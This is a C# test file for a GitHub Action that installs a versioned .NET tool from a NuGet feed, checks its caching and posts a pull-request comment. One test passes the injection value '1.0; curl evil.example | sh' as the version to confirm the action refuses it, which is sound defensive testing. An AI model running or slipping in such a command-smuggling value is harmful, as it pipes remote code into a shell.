using System.Xml.Linq;
using Compare.Tests.Shared;

namespace Compare.GitHub.Tests;

/// <summary>
/// The action with the version input: it installs that release of the Compare.Sources package from a NuGet
/// feed (here a folder the test packs into, the framework-dependent build) instead of building, caches it
/// under the version, and runs it on the pull request.
/// </summary>
public sealed class ActionPackageTests : IAsyncLifetime
{
    private readonly DirectoryInfo _work = Directory.CreateTempSubdirectory("compare-package-");
    private ActionScenario _scenario = null!;

    private static string Version => XDocument.Load(Repository.PathOf("Directory.Build.props")).Descendants("Version").Single().Value;

    public async Task InitializeAsync() => _scenario = await ActionScenario.StartAsync();

    public async Task DisposeAsync()
    {
        await _scenario.DisposeAsync();
        _work.Delete(recursive: true);
    }

    [Fact]
    public async Task Installs_a_released_version_from_a_feed_caches_it_under_that_version_and_comments()
    {
        var feed = Path.Combine(_work.FullName, "feed");
        var artifacts = Path.Combine(_work.FullName, "artifacts");
        foreach (string[] platform in (string[][])[[], ["-r", "any"]])
        {
            var pack = await Processes.RunAsync(
                "dotnet", ["pack", Repository.PathOf("src/Compare.Cli"), "-c", "Release", "-o", feed, "--artifacts-path", artifacts, "-p:ToolPackageRuntimeIdentifiers=any", .. platform], Repository.Root);
            Assert.True(pack.ExitCode == 0, pack.Out + pack.Error);
        }

        var store = new ActionStore(Path.Combine(_work.FullName, "store"));
        var inputs = new Dictionary<string, string> { ["version"] = Version, ["nuget-source"] = feed, ["html-report"] = "false" };
        var first = await _scenario.RunAsync(store, "first", inputs);
        var second = await _scenario.RunAsync(store, "second", inputs);

        Assert.True(first.Succeeded, first.Log);
        Assert.Equal(["key", "cache", "build", "compare"], first.Ran);
        Assert.Contains($"Tool 'compare.sources' (version '{Version}') was successfully installed.", first.Log, StringComparison.Ordinal);
        Assert.EndsWith($"-package-{Version}", first.Outputs["key"], StringComparison.Ordinal);
        Assert.Equal(["key", "cache", "compare"], second.Ran);
        Assert.True(second.Succeeded, second.Log);
        var (id, comment) = Assert.Single(_scenario.GitHub.Comments);
        Assert.StartsWith(PullRequestReport.Marker, comment.Body, StringComparison.Ordinal);
        Assert.Equal(id.ToString(System.Globalization.CultureInfo.InvariantCulture), second.Outputs["comment-id"]);
    }

    [Fact]
    public async Task Refuses_a_version_that_is_no_package_version_before_installing_anything()
    {
        var store = new ActionStore(Path.Combine(_work.FullName, "store"));

        var run = await _scenario.RunAsync(store, "bad", new() { ["version"] = "1.0; curl evil.example | sh" });

        Assert.Equal(["key"], run.Ran);
        Assert.Equal(2, run.ExitCodes["key"]);
        Assert.Contains("::error::compare: version 1.0; curl evil.example | sh: not a package version", run.Log, StringComparison.Ordinal);
    }
}
